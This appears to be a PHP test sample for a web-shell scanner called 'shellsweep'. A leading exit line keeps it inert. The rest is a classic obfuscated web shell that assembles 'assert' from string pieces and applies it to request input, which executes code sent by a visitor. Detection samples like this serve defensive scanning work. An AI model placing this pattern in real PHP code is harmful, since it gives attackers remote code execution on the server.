<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$arr = array($_REQUEST['x']);
array_map("ass"."ert", $arr);
